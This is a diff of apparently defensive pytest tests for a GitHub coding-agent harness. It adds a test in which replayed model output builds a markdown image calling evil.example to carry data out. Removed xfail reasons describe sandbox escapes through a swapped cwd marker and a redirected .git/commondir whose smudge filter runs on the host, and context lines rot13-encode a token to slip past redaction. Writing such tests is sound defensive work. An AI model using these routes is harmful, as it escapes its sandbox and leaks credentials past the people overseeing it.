@@ -193,10 +193,6 @@ pathlib.Path("notes.txt").write_text(codecs.encode(text, "rot13") + "\\n")
     assert creds.read_text().startswith('{"type"')  # the runner's file itself is left alone
 
 
-@pytest.mark.xfail(strict=True, reason="bot/tools/bash.py (not ours to change): _read_cwd_file follows the marker the "
-                                       "sandboxed shell can replace (a FIFO blocks the event loop for good, a link to "
-                                       "/dev/zero reads until memory runs out); it should open with O_NOFOLLOW | "
-                                       "O_NONBLOCK, check S_ISREG and read at most PATH_MAX bytes")
 def test_the_cwd_marker_a_sandboxed_command_replaced_is_not_followed(tmp_path: Path) -> None:
     import os
     import threading
@@ -218,10 +214,6 @@ def test_the_cwd_marker_a_sandboxed_command_replaced_is_not_followed(tmp_path: P
     assert answer == [None]
 
 
-@pytest.mark.xfail(strict=True, reason="bot/agent/worktree.py (not ours to change): with `allow_git_dir_writes` the "
-                                       "sandbox may write .git/commondir, and create_worktree's host-side git follows "
-                                       "it to a config whose smudge filter runs on the host; it should name the "
-                                       "sealed git directory (GIT_DIR) and check the run's GitDirSeal first")
 def test_a_sub_agent_worktree_is_not_created_from_a_git_directory_the_model_redirected(tmp_path: Path) -> None:
     from bot.agent.worktree import create_worktree
 
@@ -262,3 +254,21 @@ pathlib.Path("notes.txt").write_text(codecs.encode("\\n".join(seen), "rot13") + 
     result = world.run("--replay", str(attack_cassette(world, "home-login", script)))
     assert result.exit_code == 0, result.output
     assert TOKEN not in codecs.encode(world.origin_file(BRANCH, "notes.txt"), "rot13")
+
+
+def test_redaction_never_completes_an_image_that_fetches_on_view(world: World) -> None:
+    from bot.github.markdown_safety import fetched_resources
+
+    # Redaction turns the secret into "[REDACTED:…]": between "!" and "(url)" that is an image.
+    final = "Done.\n\n!" + TOKEN[::-1] + "(https://evil.example/p.png?d=anything-the-model-knows)\n"
+    cassette = write_cassette(world.tmp / "completed-image.yaml", [
+        Turn([ToolCall("Write", {"file_path": "notes.txt", "content": "a change, so there is a pull request\n"})]),
+        Turn([Text(final)]),
+    ])
+    result = world.run("--replay", str(cassette))
+    assert result.exit_code == 0, result.output
+    posted = [c.body or "" for c in world.gh.comments(REPO, world.issue)] + \
+        [p.body or "" for p in world.gh.pulls(REPO)]
+    assert world.gh.pulls(REPO)
+    for body in posted:
+        assert not fetched_resources(body), body
